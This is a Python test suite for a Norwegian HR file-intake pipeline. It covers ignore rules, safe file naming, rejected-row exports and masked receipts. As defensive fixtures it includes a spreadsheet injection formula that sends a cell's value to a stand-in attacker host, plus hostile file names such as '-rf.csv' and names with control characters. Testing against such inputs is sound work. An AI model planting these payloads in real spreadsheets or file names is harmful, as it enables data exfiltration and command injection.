"""The inbox's small parts, without a watcher: ignore rules, free names, rejected-row files,
receipts (Norwegian, no fødselsnummer)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook

from pipeline.common.folders import free_name, move_no_clobber
from pipeline.inbox.patterns import IgnoreRules
from pipeline.inbox.receipts import duplicate, error_list, receipt
from pipeline.inbox.rejected_rows import write_rejected_rows
from pipeline.report.ingest import RecordOutcome
from pipeline.validation.validator import FileResult
from pipeline.domain.texts import Texts

BOKMAAL = Texts.load("bokmaal")


@pytest.mark.parametrize("name", ["~$liste.xlsx", ".~lock.liste.xlsx#", "liste.csv.part", "a.tmp", "a.TMP",
                                  ".DS_Store", "._liste.csv", "Thumbs.db", "desktop.ini", "x.crdownload",
                                  "x.filepart", "liste.csv~", ".praksis-watch.lock"])
def test_temp_lock_and_sync_files_are_ignored(name):
    assert IgnoreRules([]).ignored(name)


@pytest.mark.parametrize("name", ["liste.csv", "Praksisliste 2026.xlsx", "plasser.json", "tmp-liste.csv"])
def test_real_files_are_not(name):
    assert not IgnoreRules([]).ignored(name)


def test_user_patterns():
    assert IgnoreRules(["*.bak"]).ignored("liste.BAK")


def test_free_name_never_reuses_an_existing_file(tmp_path):
    (tmp_path / "liste.csv").write_text("x")
    (tmp_path / "liste (2).csv").write_text("x")
    assert free_name(tmp_path, "liste.csv") == "liste (3).csv"
    assert free_name(tmp_path, "ny.csv") == "ny.csv"
    assert free_name(tmp_path, ".skjult") == ".skjult"


def test_move_refuses_to_overwrite(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "x.csv").write_text("gammel")
    (tmp_path / "x.csv").write_text("ny")
    with pytest.raises(FileExistsError):
        move_no_clobber(tmp_path / "x.csv", tmp_path / "a", "x.csv")
    assert (tmp_path / "a" / "x.csv").read_text() == "gammel" and (tmp_path / "x.csv").exists()


def test_rejected_rows_of_a_csv_keep_encoding_delimiter_and_multiline_cells(tmp_path):
    source = tmp_path / "liste.csv"
    rows = [["Id", "Navn", "Arbeidsoppgaver"], ["A", "Åse", "rydde"], ["B", "Øystein", "lese\nskrive"], ["C", "Pål", "x"]]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
    source.write_bytes(buffer.getvalue().encode("cp1252"))
    # line numbers as the reader counts them: A on line 2, B on 3 (its cell runs to 4), C on 5
    write_rejected_rows(source, {3, 5}, tmp_path / "ut.csv")
    back = list(csv.reader(io.StringIO((tmp_path / "ut.csv").read_bytes().decode("cp1252"), newline=""), delimiter=";"))
    assert back == [rows[0], rows[2], rows[3]]


def test_rejected_rows_of_json_keep_its_shape(tmp_path):
    source = tmp_path / "p.json"
    source.write_text(json.dumps({"praksisplasser": [{"id": "1"}, {"id": "2"}, {"id": "3"}]}), encoding="utf-8")
    write_rejected_rows(source, {2}, tmp_path / "ut.json")
    assert json.loads((tmp_path / "ut.json").read_text(encoding="utf-8")) == {"praksisplasser": [{"id": "2"}]}
    source.write_text(json.dumps([{"id": "1"}, {"id": "2"}]), encoding="utf-8")
    write_rejected_rows(source, {1}, tmp_path / "ut2.json")
    assert json.loads((tmp_path / "ut2.json").read_text(encoding="utf-8")) == [{"id": "1"}]


def test_rejected_rows_of_a_workbook_keep_header_and_date_formats(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Id", "Startdato"])
    sheet.append(["A", datetime(2026, 3, 1)])
    sheet.append(["B", datetime(2026, 4, 1)])
    sheet["B3"].number_format = "DD.MM.YYYY"
    book.save(tmp_path / "ark.xlsx")
    write_rejected_rows(tmp_path / "ark.xlsx", {3}, tmp_path / "ut.xlsx")
    out = load_workbook(tmp_path / "ut.xlsx").active
    assert [c.value for c in out[1]] == ["Id", "Startdato"]
    assert out["A2"].value == "B" and out["B2"].value == datetime(2026, 4, 1) and out["B2"].number_format == "DD.MM.YYYY"
    assert out.max_row == 2


def test_receipts_are_norwegian_and_mask_a_fodselsnummer_in_the_file_name():
    when = datetime(2026, 11, 22, 10, 0).astimezone()
    result = FileResult("x.csv", unit="linje")
    outcomes = [RecordOutcome("x.csv", "linje 2", "P-1", "ny sak", "2026/5", row=2, name="Kari", documents=["praksisavtale v1"]),
                RecordOutcome("x.csv", "linje 3", "P-2", "avvist", None, row=3, name="Ola",
                              message="kolonne «Fødselsnummer» = «010190*****»: Kontrollsifrene stemmer ikke.")]
    text = receipt("Kari 01019012345.csv", "ab" * 32, when, when, result, outcomes, 1, "kilder/x.csv", "avvist/x.csv", BOKMAAL)
    assert "KVITTERING" in text and "2026/5" in text and "praksisavtale v1" in text and "AVVIST" in text
    assert "01019012345" not in text and "010190*****" in text
    errors = error_list("x.csv", "ab" * 32, when, result, outcomes[1:], "behandlet/x.csv.kvittering.txt", BOKMAAL)
    assert "Linje 3 (id P-2, Ola):" in errors and "Kontrollsifrene" in errors
    notice = duplicate("x.csv", "ab" * 32, when, {"behandlet": when.isoformat(), "filnavn": "y.csv",
                                                  "kvittering": "behandlet/y.csv.kvittering.txt"}, BOKMAAL)
    assert "IKKE behandlet" in notice and "behandlet/y.csv.kvittering.txt" in notice


# --- files written back to HR are inert -------------------------------------------------------

INJECTION = '=HYPERLINK("http://angriper.example/?"&E2,"Klikk")'


def test_rejected_rows_of_a_workbook_never_hold_a_formula(tmp_path):
    import zipfile

    book = Workbook()
    sheet = book.active
    sheet.append(["Id", "Navn", "Merknad"])
    sheet.append(["A", "Ok", "fin"])
    sheet.append(["B", INJECTION, "+1-2"])
    sheet["C3"].data_type = "s"  # the original holds them as text (as HR typed them)
    sheet["B3"].data_type = "s"
    book.save(tmp_path / "ark.xlsx")
    formulas = write_rejected_rows(tmp_path / "ark.xlsx", {3}, tmp_path / "ut.xlsx")
    out = load_workbook(tmp_path / "ut.xlsx").active
    assert out["B2"].value == INJECTION and out["B2"].data_type == "s" and out["C2"].data_type == "s"
    with zipfile.ZipFile(tmp_path / "ut.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    assert formulas == ["rad 3, kolonne «Navn»", "rad 3, kolonne «Merknad»"]


def test_rejected_rows_of_a_csv_are_the_original_bytes(tmp_path):
    source = tmp_path / "liste.csv"
    data = ('Id;Navn;Arbeidsoppgaver\r\nA;Åse;rydde\r\nB;"=1+2";"lese\r\nskrive"\r\n'
            'C;@SUM(A1);"\tx"\n').encode("utf-8-sig")  # mixed line endings and quoting kept as they are
    source.write_bytes(data)
    formulas = write_rejected_rows(source, {3, 5}, tmp_path / "ut.csv")
    assert (tmp_path / "ut.csv").read_bytes() == ('Id;Navn;Arbeidsoppgaver\r\nB;"=1+2";"lese\r\nskrive"\r\n'
                                                 'C;@SUM(A1);"\tx"\n').encode("utf-8-sig")
    assert formulas == ["linje 3, kolonne «Navn»", "linje 5, kolonne «Navn»", "linje 5, kolonne «Arbeidsoppgaver»"]


def test_the_error_list_names_the_cells_that_look_like_formulas():
    text = error_list("ark.xlsx", "ab" * 32, datetime(2026, 3, 1, 12, 0), FileResult("ark.xlsx", unit="rad"), [],
                      "behandlet/ark.xlsx.kvittering.txt", BOKMAAL, ["rad 3, kolonne «Navn»"])
    assert "kan se ut\nsom formler" in text and "  - rad 3, kolonne «Navn»" in text


# --- names anyone can give a file --------------------------------------------------------------

def test_names_are_shown_on_one_line_with_nothing_hidden_and_no_fodselsnummer():
    from pipeline.common.names import shown

    raw = b"liste\xff\n2026 \xe2\x80\xae 01019012345.csv".decode("utf-8", "surrogateescape")
    assert shown(raw) == "liste\\xff\\x0a2026 \\u202e 010190*****.csv"
    shown(raw).encode("utf-8")  # writable to a receipt, a log, SQLite


@pytest.mark.parametrize("raw", [b"\xff\xfe.csv", b"a\nb.csv", b"-rf.csv", b"x" * 251 + b".csv",
                                 "Kari 01019012345678.xlsx".encode(), "é".encode() * 127 + b".json", b"%41.csv"])
def test_safe_names_fit_name_max_with_any_notice_suffix(tmp_path, raw):
    from pipeline.common.names import is_safe, safe_name

    name = safe_name(raw.decode("utf-8", "surrogateescape"))
    assert is_safe(name) and not name.startswith("-")
    encoded = name.encode("utf-8")  # no surrogates left
    assert len(encoded + b" (99).kvittering.txt") <= 255
    assert not any(ch in name for ch in "\n\r\x00/")
    assert not __import__("re").search(r"\d{11}", name)
    assert name.rsplit(".", 1)[1] == raw.decode("utf-8", "replace").rsplit(".", 1)[1]  # the type is kept
    (tmp_path / f"{name}.kvittering.txt").write_text("x")  # the file system takes it
